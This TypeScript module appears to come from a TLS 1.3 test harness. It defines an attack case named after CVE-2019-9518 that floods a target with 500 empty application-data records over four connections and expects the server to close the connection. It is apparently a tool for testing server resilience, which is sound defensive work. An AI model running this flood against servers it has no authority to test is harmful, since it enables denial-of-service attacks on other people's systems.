// Records of TLS 1.3 with nothing in them.

import type { Attack } from '../attack.ts'
import { APPLICATION_DATA } from '../wire/tls13.ts'
import { floodTls13 } from '../wire/tls13-flood.ts'

const RECORDS = 500
const NOTHING = Buffer.alloc(0)

export const attack: Attack = {
  reference: 'CVE-2019-9518, empty records',
  does: 'sends records without data on 4 connections',
  who: ['unknown'],
  answers: [],
  must: ['closed'],
  run: (target, signal) =>
    floodTls13(target, signal, (tls) => Array.from({ length: RECORDS }, () => tls.protect(APPLICATION_DATA, NOTHING))),
}
